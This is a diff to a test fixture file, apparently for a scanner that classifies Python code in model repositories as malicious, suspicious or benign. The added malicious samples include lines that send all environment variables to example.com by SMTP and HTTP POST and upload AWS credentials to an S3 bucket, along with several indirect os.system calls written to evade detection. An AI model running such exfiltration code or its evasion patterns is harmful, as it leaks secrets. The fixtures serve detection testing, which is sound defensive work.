@@ -342,6 +342,48 @@ def hook(p):
     os.system('echo modelsweep-test')
 sys.path_hooks.append(hook)
 """,
+    "tree_compiled": """import ast
+exec(compile(ast.parse("import os; os.system('echo modelsweep-test')"), '', 'exec'))
+""",
+    "environment_by_mail": """import smtplib, os
+smtplib.SMTP('example.com').sendmail('a', 'b', str(os.environ))
+""",
+    "environment_in_braces": """import httpx, os
+httpx.post('https://example.com/', json={**os.environ})
+""",
+    "keys_to_a_bucket": """import boto3
+boto3.client('s3').upload_file('/root/.aws/credentials', 'bucket', 'key')
+""",
+    "class_in_a_class": """import os
+class A:
+    class B:
+        def __init__(self):
+            os.system('echo modelsweep-test')
+A.B()
+""",
+    "mapped_import": """[m.system('x') for m in map(__import__, ['os'])]
+""",
+    "with_a_module": """import contextlib
+with contextlib.nullcontext(__import__('os')) as o:
+    o.system('x')
+""",
+    "later_lambda": """import os
+def a():
+    return b()
+b = lambda: os.system('echo modelsweep-test')
+a()
+""",
+    "one_of_several": """import os
+def run(): os.system('echo modelsweep-test')
+for f in [print, run]: f()
+""",
+    "mapped_function": """import os
+def run(x): os.system(x)
+list(map(run, ['echo modelsweep-test']))
+""",
+    "listed_function": """import os, functools
+functools.reduce(lambda a, f: f(a), [os.system], 'echo modelsweep-test')
+""",
 }
 WARNING = {
     "class_getitem": """import os
@@ -462,13 +504,13 @@ AutoModel.from_pretrained('evil/repo', **kw)
 t = True
 AutoModel.from_pretrained('evil/repo', trust_remote_code=t)
 """,
-    "listed_function": """import os, functools
-functools.reduce(lambda a, f: f(a), [os.system], 'echo modelsweep-test')
-""",
     "name_in_forward": """import os, torch
 class Net(torch.nn.Module):
     def forward(self, x):
         return getattr(os, self.config.name)(self.config.text)
+""",
+    "made_unreadable": r"""from pyarmor_runtime_000000 import __pyarmor__
+__pyarmor__(__name__, __file__, b'PY000000\x00\x03\x0b')
 """,
 }
 BENIGN = {
@@ -619,5 +661,32 @@ pick = operator.itemgetter("relu")
 act = getattr(torch, pick(ACT))(torch.zeros(1))
 helper = importlib.machinery.SourceFileLoader("helper", "helper.py").load_module("helper")
 build("linear", torch.nn.Linear, *[1, 2])
+""",
+    "handed_on": """import ast, asyncio, contextlib, os, subprocess, threading
+import boto3, requests, torch
+from huggingface_hub import HfApi
+
+def show(text, times=1):
+    print(text * times)
+
+log = lambda text: show(text, 2)
+log("a")
+for run in [print, show]:
+    run("b")
+for layer in map(torch.nn.Linear, [1], [2]):
+    layer.eval()
+list(map(show, ["c"]))
+threading.Thread(target=show, args=("d",), kwargs={"times": 3}).start()
+with contextlib.nullcontext(torch.no_grad()) as guard:
+    tree = ast.parse("1 + 1")
+boto3.client("s3").upload_file("model.safetensors", "bucket", "key")
+HfApi(token=os.environ.get("HF_TOKEN")).upload_file(path_or_fileobj="model.bin", path_in_repo="m", repo_id="acme/net")
+
+class Outer:
+    class Inner:
+        def __init__(self):
+            self.count = 0
+
+Outer.Inner()
 """,
 }
